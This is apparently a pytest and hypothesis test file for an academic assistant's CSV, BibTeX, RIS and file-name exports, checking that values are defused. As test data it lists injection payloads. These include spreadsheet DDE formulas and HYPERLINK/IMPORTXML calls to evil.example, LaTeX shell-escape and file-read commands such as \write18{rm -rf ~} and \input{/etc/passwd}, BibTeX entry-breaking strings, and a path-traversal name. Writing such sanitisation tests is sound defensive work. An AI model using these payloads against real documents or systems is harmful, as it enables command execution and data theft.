"""What is taken away carries no formula and no command, whatever the papers say."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import bibtexparser
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.conversation import Conversation
from assistant.schema import Answer, Citation, Table, Turn
from index.schema import Paper
from ui.command_line.cli import cli
from ui.parts.bibliography import bibtex, ris
from ui.parts.exports import FORMATS, export
from ui.parts.latex import _MATHEMATICS
from ui.parts.spreadsheet import COLUMNS, harmless, papers_csv, table_csv

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")',
    "=WEBSERVICE(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "\x00=1+1", "\x1f=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0a=1+1", '";=1+1;"',
    '"\n=1+1', "a\r\n=1+1", "'=1+1", '","=1+1', "-1", "--1", "+1", "=\t1", "\ud800=1",
]  # fmt: skip
COMMANDS = [
    r"\write18{rm -rf ~}", r"\immediate\write18{id}", r"\input{/etc/passwd}", r"\input|id", r"\include{x}",
    r"\openin", r"\def\x{\x}\x", r"\catcode`\@=11", r"\csname input\endcsname{x}", r"$\input{/etc/passwd}$",
    r"^^5cinput{x}", r"$^^5cinput{x}$", r"$\mathbb{\input{x}}$", r"$\mathbb{\}$", r"$\{$",
    r"$\text{\write18{id}}$", r"\\input{x}", "}} }\n@preamble{\"\\write18{id}\"}",
    "}},\n url={https://evil.example}", '}}, note="x', "} }", "{", "}", "{{", "}}", r"\{", r"\}", r"\\}",
    r"\\{", "\\", "a\\", "@comment{", "@string{a={b}}", "@misc{x,title={y}}", "$@misc{x}$", "\n@misc{x,\n",
    "% not a comment", "a%\n}", "#", "&", "~", "_", "^", '"', "$", "$$", "$a$$b$", "$}{$", "a and b",
    "a\nand\nb", "others", r"\verb|x|", r"\special{shell:id}", r"\pdffiledump", r"\directlua{os.execute('id')}",
    "\x00", "\x1b[31m", "\u2028@misc{x,",
]  # fmt: skip
ALLOWED = {
    *_MATHEMATICS,
    *(
        "textbackslash",
        "textbraceleft",
        "textbraceright",
        "textasciitilde",
        "textasciicircum",
        "lbrace",
        "rbrace",
    ),
}
pieces = st.one_of(
    st.sampled_from(FORMULAS + COMMANDS), st.text(alphabet=r"\{}$^%@#&_~\"'=+-|, ab5c", max_size=12)
)
words = st.lists(pieces, min_size=1, max_size=4).map("".join)


def paper(value: str) -> Paper:
    facts: dict[str, Any] = dict.fromkeys(
        ("title", "organization", "arxiv_id", "doi", "url", "source"), value
    )
    return Paper(id="p", published="2025-06-19", authors=(value, "Ines Duarte"), **facts)


def conversation(value: str) -> Conversation:
    of, moment = paper(value), "2025-07-01T09:00:00.000000+00:00"
    cited = Citation(number=1, paper=of, quote=value, start=0, end=len(value))
    table = Table(columns=("Paper", value), rows=((f"{value} [1]", value),))
    answer = Answer(
        question=value, standalone=value, kind="find", answered=True, text=f"It is so [1]. {value}", citations=(cited,),
        table=table,
    )  # fmt: skip
    turn = Turn(question=value, answer=answer)
    return Conversation(id="c", title=value, created=moment, updated=moment, turns=(turn,))


# ---- CSV


def cells(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def are_harmless(rows: list[list[str]]) -> None:
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"[\s=+\-@|%＝＋－＠]", cell), cell
        assert not re.search(r"[\x00-\x1f\u200b\ufeff\u202e]", cell)


@settings(deadline=None)
@given(words)
def test_no_cell_of_a_csv_begins_a_formula(value: str) -> None:
    rows = cells(papers_csv([paper(value)]))
    assert rows[0] == list(COLUMNS)
    are_harmless(rows)
    are_harmless(cells(table_csv(conversation(value).turns[0].answer.table)))  # type: ignore[arg-type]


@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
def test_each_known_formula_is_defused_and_its_words_stay(value: str) -> None:
    told = harmless(value)
    are_harmless([[told]])
    kept = re.sub(r"[\s\x00-\x1f\u200b\ufeff\u202e\ud800]", "", value)
    assert kept in re.sub(r"\s", "", told)


def test_a_csv_tells_what_is_known_of_each_paper() -> None:
    known = Paper(id="p1", title="On “Drift”, again", authors=("Ines Duarte", "Paul Okoro"), comments=3)
    assert cells(papers_csv([known]))[1] == [
        "On “Drift”, again", "Ines Duarte; Paul Okoro", "", "", "", "", "", "3", "p1",
    ]  # fmt: skip
    table = Table(columns=("Paper", "Score"), rows=((r"A\*Net \[old\] [1]", "3.1% [1]"),))
    assert cells(table_csv(table)) == [["Paper", "Score"], ["A*Net [old] [1]", "3.1% [1]"]]


def test_papers_are_listed_as_csv_on_the_terminal(
    library: Any, monkeypatch: pytest.MonkeyPatch, models: Path
) -> None:
    monkeypatch.setenv("IBID_EMBEDDING__MODELS", str(models))
    done = CliRunner().invoke(cli, ["list", "--csv", "--library", str(library.folder), "--limit", "2"])
    assert done.exit_code == 0
    rows = cells(done.stdout_bytes.decode())
    assert [row[0] for row in rows] == [
        "title",
        "Sorting Seeds by Sound",
        "KilnBench: Can Language Models Plan a Pottery Firing?",
    ]


# ---- BibTeX


@settings(max_examples=400, deadline=None)
@given(words)
def test_no_title_ends_its_field_begins_an_entry_or_holds_a_command(value: str) -> None:
    is_one_entry(value)


@pytest.mark.parametrize("value", COMMANDS, ids=range(len(COMMANDS)))
def test_each_known_command_is_printed_as_it_is_spelled(value: str) -> None:
    is_one_entry(value)


def is_one_entry(value: str) -> None:
    written = bibtex([paper(value), Paper(id="q", title="The next one", published="2024")])
    read = bibtexparser.parse_string(written)
    assert not read.failed_blocks
    assert read.preambles == read.strings == read.comments == []
    first, second = read.entries
    known = {"title", "author", "year", "month", "eprint", "archiveprefix", "doi", "url"}
    assert set(first.fields_dict) <= known
    assert second.fields_dict["title"].value == "{The next one}"
    for field in first.fields:
        balanced(str(field.value))
        assert set(re.findall(r"\\([A-Za-z]+)", str(field.value))) <= ALLOWED
        assert "^^" not in str(field.value)
        assert not re.search(r"@\w*\s*{", str(field.value))
    assert str(first.fields_dict["author"].value).endswith(" and Ines Duarte")
    without_braced = re.sub(r"{[^{}]*}", "", str(first.fields_dict["author"].value).replace("{}", ""))
    assert re.split(r"\sand\s", without_braced, flags=re.IGNORECASE)[2:] == []


def balanced(value: str) -> None:
    """By BibTeX's rule, for which a backslash before a brace means nothing."""
    depth = 0
    for character in value:
        depth += (character == "{") - (character == "}")
        assert depth >= 0
    assert depth == 0


# ---- The other forms, and names


@settings(deadline=None)
@given(words)
def test_no_value_begins_a_record_of_ris(value: str) -> None:
    lines = ris([paper(value)]).split("\r\n")
    assert [line[:6] for line in lines].count("TY  - ") == [line[:6] for line in lines].count("ER  - ") == 1
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) or line == "" for line in lines)


@settings(deadline=None)
@given(words)
def test_whatever_a_conversation_is_called_its_files_have_harmless_names(value: str) -> None:
    for form in FORMATS:
        name = export(conversation(value), form).name
        assert re.fullmatch(r"[a-z0-9][a-z0-9-]*(\.csl)?\.[a-z]+", name)
        assert len(name) <= 75


@pytest.mark.parametrize("title", ["con", "NUL", "Aux.", "lpt1", "../../etc/passwd", "..", "-rf", ""])
def test_no_file_is_called_as_a_device_or_a_folder(title: str) -> None:
    name = export(conversation("x").model_copy(update={"title": title}), "md").name
    assert not re.match(r"(con|nul|aux|lpt\d)\.|[.-]", name)
    assert "/" not in name


def test_every_form_of_a_hostile_conversation_is_written() -> None:
    for value in FORMULAS + COMMANDS:
        for form in FORMATS:
            told = export(conversation(value.replace("\ud800", "")), form).text
            assert told.encode("utf-8")
            assert form not in ("json", "csl") or json.loads(told)
